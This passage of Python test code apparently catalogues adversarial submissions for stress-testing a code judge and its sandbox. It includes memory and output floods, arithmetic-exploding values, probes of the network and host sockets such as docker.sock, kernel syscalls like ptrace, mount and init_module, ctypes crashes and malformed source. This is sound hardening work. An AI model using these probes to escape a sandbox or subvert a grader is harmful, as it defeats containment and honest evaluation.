    "hash collisions": "return {i * (2 ** 61 - 1) for i in range(1, 40)} | {i * (2 ** 61 - 1) << 61 for i in range(20)}",
    "many hash collisions, set": "return frozenset(X(i * (2 ** 61 - 1)) for i in range(60000))",
    "many hash collisions, list for set": "return [i * (2 ** 61 - 1) for i in range(60000)]",
    "many hash collisions, dictionary": "return {X(i * (2 ** 61 - 1)): 0 for i in range(60000)}",
    "integer of a million digits": "return 10 ** 10 ** 6",
    "integer of ten million bits": "return 1 << 10 ** 7",
    "list of big integers": "return [1 << 10 ** 6] * 1000",
    "integer beyond float": "return 10 ** 400",
    "fraction": "from fractions import Fraction\nreturn Fraction(10 ** 10 ** 5 + 1, 3 ** 10 ** 5)",
    "decimal": "from decimal import Decimal\nreturn Decimal('1e999999999')",
    "long range": "return range(10 ** 18)",
    "endless iterator": "import itertools\nreturn itertools.count()",
    "length that lies": "return type('L', (list,), {'__len__': lambda s: 1 << 62, '__length_hint__': lambda s: 1 << 62})()",
    "argument made huge": "if type(args[0]) is list: args[0].extend([0] * (50 << 20))\nreturn args[0]",
    "argument made cyclic": "if type(args[0]) is list: args[0][:] = [args[0]] * 3\nreturn args[0]",
    "argument made to double": "x = args[0]\nif type(x) is list:\n    for _ in range(64): x = [x, x]\n    args[0].append(x)",
    "long error message": "raise ValueError('x' * (300 << 20))",
    "long error name": "raise type('E' * (1 << 20), (Exception,), {})('x')",
    "long chain of errors": "e = None\nfor _ in range(10 ** 5):\n    n = ValueError(); n.__cause__ = e; e = n\nraise e",
    "cyclic chain of errors": "a, b = ValueError(), ValueError()\na.__cause__, b.__cause__ = b, a\nraise a",
    "big group of errors": "e = ValueError()\nfor _ in range(10 ** 4): e = ExceptionGroup('x', [e])\nraise e",
    "error with strange text": "raise ValueError('\\ud800\\x00\\x1b[2J\\n' * 999)",
    "error with strange arguments": "raise KeyError([1], {2: 3}, Ellipsis, riddle)",
    "syntax error with strange place": "raise SyntaxError('x', ('f', 10 ** 30, -5, 'y' * 10 ** 7))",
    "unicode error with strange range": "raise UnicodeDecodeError('x', b'', 10 ** 15, -10 ** 15, 'y')",
    "string of surrogates": "return [chr(c) for c in range(0xd800, 0xe000)]",
    "not a number as key": "return {float('nan'): 1, float('nan'): 2}",
    "negative zero": "return [-0.0, 0, False, 0j]",
    "true for one": "return True",
}
SLOW_HASH = """
class X(int):
    __hash__ = lambda self: id(self)
    __eq__ = lambda self, other: self is other
"""
AMPLIFIERS = {
    "great exponent": "return 10 ** 12",
    "great negative exponent": "return -10 ** 12",
    "great repetition": "return 10 ** 10",
    "index beyond": "return 10 ** 19",
}

SIZES = [
    *(
        Cheat(f"memory: {what}", "memory", "Take more memory than allowed.",
              code + "\nif __name__: raise RuntimeError('HARM: got it')\n" + _riddle("return 0"), (INTEGER,), hasty=True)
        for what, code in MEMORY.items()
    ),
    *(
        Cheat(f"memory in the call: {what}", "memory", "Take more memory than allowed.",
              _riddle(MEMORY[what] + "\nraise RuntimeError('HARM: got it')"), (INTEGER,), hasty=True)
        for what in ("list", "bytes, little by little", "mapped", "scratch files", "deep recursion")
    ),
    *(
        Cheat(f"flood of {what}", "flood", "Drown the judge in output.", _riddle(code), (INTEGER,), hasty=True)
        for what, code in FLOODS.items()
    ),
    *(
        Cheat(f"flood of {what}, printed", "flood", "Drown the judge in output.", code, (LINES,), BROKEN_OFF, hasty=True)
        for what, code in FLOODS.items()
    ),
    Cheat("flood of every descriptor", "flood", "Drown the judge.", FLOODS_OF_ALL, (INTEGER, LINES), hasty=True),
    *(
        Cheat(f"value: {what}", "size", "Return what is costly to read, compare or show.",
              SLOW_HASH + _riddle(code), (SET,) if "many hash" in what else (LOOP, SET), hasty=True)
        for what, code in BIG_VALUES.items()
    ),
    *(
        Cheat(f"value: {what}", "size", "Make the check's own arithmetic explode.", _riddle(code), (AMPLIFY, REPEAT),
              hasty=True)
        for what, code in AMPLIFIERS.items()
    ),
]  # fmt: skip

# ---- network and kernel ----

NETWORK = {
    "connect to the host": "s.create_connection(('127.0.0.1', @PORT@), 2).sendall(b'x')\nprint('HARM: connected')",
    "connect over six": "s.create_connection(('::1', @PORT@), 2).sendall(b'x')\nprint('HARM: connected')",
    "datagram": "s.socket(2, 2).sendto(b'x', ('127.0.0.1', @PORT@))\nprint('HARM: sent')",
    "names": "print('HARM', s.getaddrinfo('localhost', 80, proto=6)[0][4] and s.gethostbyname('example.com'))",
    "listen": "a = s.socket()\na.bind(('0.0.0.0', 0))\na.listen()\nprint('HARM: listening')",
    "raw": "s.socket(2, 3, 1)\nprint('HARM: raw socket')",
    "packet": "s.socket(17, 3, 3)\nprint('HARM: packet socket')",
    "netlink": "s.socket(16, 3, 0)\nprint('HARM: netlink socket')",
    "vsock": "s.socket(40, 1, 0)\nprint('HARM: vsock socket')",
    "kernel crypto": "s.socket(38, 5, 0)\nprint('HARM: kernel crypto socket')",
    "bluetooth": "s.socket(31, 3, 1)\nprint('HARM: bluetooth socket')",
    "unix socket of the host": "for n in ('/run/dbus/system_bus_socket', '/var/run/docker.sock', '/run/systemd/notify'):\n"
    "    try: s.socket(1).connect(n); print('HARM: connected to', n)\n    except OSError: pass",
    "address in use": "import urllib.request\nprint('HARM', urllib.request.urlopen('http://127.0.0.1:@PORT@', timeout=2))",
}
# x86_64 numbers, called with arguments that no kernel accepts: what is not refused answers EFAULT, EINVAL or the like.
SYSTEM_CALLS = {
    "io_uring_setup": (425, "1, None"),
    "bpf": (321, "0, None, 0"),
    "userfaultfd": (323, "0"),
    "perf_event_open": (298, "None, 0, -1, -1, 0"),
    "keyctl": (250, "0, -3, 0"),
    "add_key": (248, "None, None, None, 0, -3"),
    "request_key": (249, "None, None, None, -3"),
    "unshare of users": (272, "0x10000000"),
    "unshare of mounts": (272, "0x00020000"),
    "setns": (308, "-1, 0"),
    "mount": (165, "None, None, None, 0, None"),
    "umount": (166, "None, 0"),
    "pivot_root": (155, "None, None"),
    "chroot": (161, "b'.'"),
    "open_tree": (428, "-100, None, 1"),
    "fsopen": (430, "None, 0"),
    "mount_setattr": (442, "-1, None, 0, None, 0"),
    "init_module": (175, "None, 0, None"),
    "finit_module": (313, "-1, None, 0"),
    "kexec_load": (246, "0, 0, None, 0xffff"),
    "reboot": (169, "0, 0, 0, None"),
    "swapon": (167, "None, 0"),
    "iopl": (172, "9"),
    "ioperm": (173, "0, 0x10000, 1"),
    "ptrace": (101, "0x4200, 999999, 0, 0"),
    "process_vm_readv": (310, "999999, None, 0, None, 0, 0"),
    "process_madvise": (440, "-1, None, 0, 0, 0"),
    "pidfd_getfd": (438, "-1, 0, 0"),
    "pidfd_open": (434, "999999, 0"),
    "kcmp": (312, "999999, 999999, 0, 0, 0"),
    "open_by_handle_at": (304, "-1, None, 0"),
    "fanotify_init": (300, "0xffff, 0"),
    "quotactl": (179, "0, None, 0, None"),
    "acct": (163, "b'nowhere'"),
    "syslog": (103, "3, None, 0"),
    "sethostname": (170, "None, 3"),
    "setdomainname": (171, "None, 3"),
    "settimeofday": (164, "1, 1"),
    "clock_settime": (227, "0, 1"),
    "clock_adjtime": (305, "0, 1"),
    "modify_ldt": (154, "9, None, 0"),
    "lookup_dcookie": (212, "0, None, 0"),
    "move_pages": (279, "999999, 0, None, None, None, 0"),
    "migrate_pages": (256, "999999, 0, None, None"),
    "mknod of a device": (133, "b'device', 0o20666, 0x101"),
    "clone3": (435, "None, 0"),
    "unknown call": (4095, ""),
}
SYSTEM_CALL = """
import ctypes, errno, os
libc = ctypes.CDLL(None, use_errno=True)
if os.uname().machine == 'x86_64':
    for number in ({0}, {0} | 0x40000000):
        ctypes.set_errno(0)
        result = libc.syscall(number, {1})
        error = ctypes.get_errno()
        if result != -1 or error not in (errno.EPERM, errno.ENOSYS, errno.EACCES):
            print('HARM: the kernel answered', result, errno.errorcode.get(error))
"""
OUTWARD = [
    *(
        Cheat(f"network: {what}", "network", "Reach the network.",
              "import socket as s\n" + code + "\n" + _riddle("return 0"), (INTEGER, LINES))
        for what, code in NETWORK.items()
    ),
    *(
        Cheat(f"kernel: {what}", "kernel", "Reach a rarely guarded part of the kernel.",
              SYSTEM_CALL.format(number, arguments).replace(", )", ")") + _riddle("return 0"), (LINES,))
        for what, (number, arguments) in SYSTEM_CALLS.items()
    ),
]  # fmt: skip

# ---- crashes, and source that is not text ----

CRASHES = {
    "null pointer": "import ctypes\nctypes.string_at(0)",
    "wild pointer": "import ctypes\nctypes.memset(0x4141414141, 0, 4096)",
    "overwritten type": "import ctypes\nctypes.memset(id(int), 0, 400)",
    "overwritten None": "import ctypes\nctypes.memset(id(None), 0, 16)",
    "faulthandler": "import faulthandler\nfaulthandler._sigsegv()",
    "abort": "import os\nos.abort()",
    "fatal error": "import ctypes\nctypes.pythonapi.Py_FatalError(b'passed')",
    "bad bytecode": "f = lambda: 0\nf.__code__ = f.__code__.replace(co_code=bytes([100, 255, 83, 0]) * 9)\nf()",
    "deep C recursion": "import functools\nf = int\nfor _ in range(10 ** 6): f = functools.partial(f)\nf()",
    "deep destruction": "import itertools\nx = iter(())\nfor _ in range(10 ** 6): x = itertools.chain(x)\ndel x",
    "deep comparison": "import sys\nsys.setrecursionlimit(10 ** 9)\na = b = None\nfor _ in range(10 ** 6): a, b = [a], [b]\na == b",
    "deep compile": "compile('(' * 10 ** 5 + ')' * 10 ** 5, 'x', 'eval')",
    "illegal instruction": "import ctypes, mmap\nm = mmap.mmap(-1, 4096, prot=7)\nm.write(b'\\x0f\\x0b')\n"
    "ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))()",
    "division by zero in C": "import ctypes, mmap\nm = mmap.mmap(-1, 4096, prot=7)\nm.write(b'\\x31\\xc9\\xf7\\xf1')\n"
    "ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))()",
    "mapped file cut": "import mmap\nf = open('f', 'w+b')\nf.truncate(8192)\nm = mmap.mmap(f.fileno(), 8192)\nf.truncate(0)\nm[5000]",
    "double free": "import ctypes\nlibc = ctypes.CDLL(None)\nlibc.malloc.restype = ctypes.c_void_p\n"
    "p = ctypes.c_void_p(libc.malloc(99999))\nlibc.free(p)\nlibc.free(p)\nctypes.string_at(1)",
    "references stolen": "import ctypes\nx = [1]\nfor _ in range(9): ctypes.pythonapi.Py_DecRef(ctypes.py_object(x))\n"
    "ctypes.string_at(1)",
    "dead thread state": "import ctypes\nctypes.CDLL(None).PyEval_SaveThread()\nctypes.CDLL(None).PyList_New(3)",
    "sub-interpreter ended": "import _xxsubinterpreters as s\ni = s.create()\ns.run_string(i, 'import os; os._exit(0)')",
}
NOT_TEXT = {
    "NUL bytes": "def riddle(n):\n    return '\0'\n\0",
    "only NUL": "\0",
    "lone surrogate": "def riddle(n):\n    return '\ud800'\n",
    "lone surrogate in a name": "def riddle\udfff(n):\n    return 1\n",
    "unknown encoding": "# -*- coding: no-such-code -*-\ndef riddle(n):\n    return 1\n",
    "utf-7": "# coding: utf-7\n+AGQAZQBm riddle(n): return 1\n",
    "utf-16": "# coding: utf-16\ndef riddle(n): return 1\n",
    "rot13 of a lie": "# coding: rot13\nqrs evqqyr(a): erghea 1\n",
    "byte order marks": "\ufeff\ufeffdef riddle(n):\n    return 1\n",
    "ten megabytes of comment": "#" * (10 << 20),
    "ten megabytes of lines": "x = 1\n" * (10 << 20 >> 3),
    "ten megabytes of one line": "x = '" + "x" * (10 << 20) + "'\nraise ValueError(x)",
    "deep parentheses": "x = " + "(" * 100000 + ")" * 100000,
    "deep brackets": "x = " + "[" * 90 + "]" * 90 + "\n" + "x = " + "[" * 10**6,
    "deep minus": "x = " + "-" * 10**6 + "1",
    "deep not": "x = " + "not " * 10**5 + "1",
    "deep lambda": "x = " + "lambda: " * 10**5 + "1",
    "deep attribute": "x = 1" + ".real" * 10**6,
    "deep sum": "x = " + "+".join(["1"] * 10**6),
    "deep else": "if 0: pass\n" + "elif 0: pass\n" * 10**5,
    "deep indentation": "".join(" " * n + "if 1:\n" for n in range(200)) + " " * 200 + "pass",
    "deep format": "x = " + "f'{" * 60 + "1" + "}'" * 60,
    "long integer": "x = " + "9" * 10**6,
    "folded constants": "x = " + "(" * 50 + "9" + "**9)" * 50 + "\ny = 'a' * 4096 * 4096 * 4096",
    "many names": "=".join(f"x{n}" for n in range(10**5)) + "=1",
    "many decorators": "@int\n" * 10**5 + "def riddle(n): pass",
    "many arguments": "def riddle(" + ", ".join(f"a{n}" for n in range(10**5)) + "): pass",
    "star bomb": "x = [" + "*[" * 90 + "1" + "]" * 91,
    "empty": "",
    "white space": " \t\f\n\r\n\v",
    "form feeds and mixed tabs": "def riddle(n):\n\f\tif n:\n        return 1\n\treturn 2\n",
    "carriage returns": "def riddle(n):\r    return 1\r",
    "strange spaces": "def\u00a0riddle(n):\u2028    return\u20031\n",
    "right to left": "def riddle(n):\n    return '\u202e' '\u2066'\n",
    "look-alike name": "def r\u0456ddle(n):\n    return 1\n",
    "end of file mark": "def riddle(n):\n    return 1\n\x1a\x04",
    "unfinished string": "def riddle(n):\n    return '''",
    "return at module level": "return 1\n",
    "await at module level": "await riddle\n",
    "nonlocal at module level": "nonlocal riddle\n",
    "markdown": "```python\ndef riddle(n):\n    return 1\n```\n",
    "future that does not exist": "from __future__ import braces\n",
    "barry": "from __future__ import barry_as_FLUFL\ndef riddle(n):\n    return n <> n\n",
}

BREAKING = [
    *(
        Cheat(f"crash: {what}", "crash", "Crash the interpreter.", _riddle(code), (INTEGER, LOOP))
        for what, code in CRASHES.items()
    ),
    *(
        Cheat(f"crash at import: {what}", "crash", "Crash the interpreter.", code, (EQUAL, LINES))
        for what, code in CRASHES.items()
    ),
    *(
        Cheat(
            f"source: {what}",
            "source",
            "Break the compiler or whoever handles the text.",
            code,
            (INTEGER, LINES),
            hasty=True,
        )
        for what, code in NOT_TEXT.items()
    ),
]

CHEATS = [
    *EXITING, *VALUES, *VARIABLES, *PATCHES, *DESCRIPTORS, *PRINTING, *SPIES, *MARKERS, *HARMS, *HANGS, *SIZES, *OUTWARD,
    *BREAKING,
]  # fmt: skip
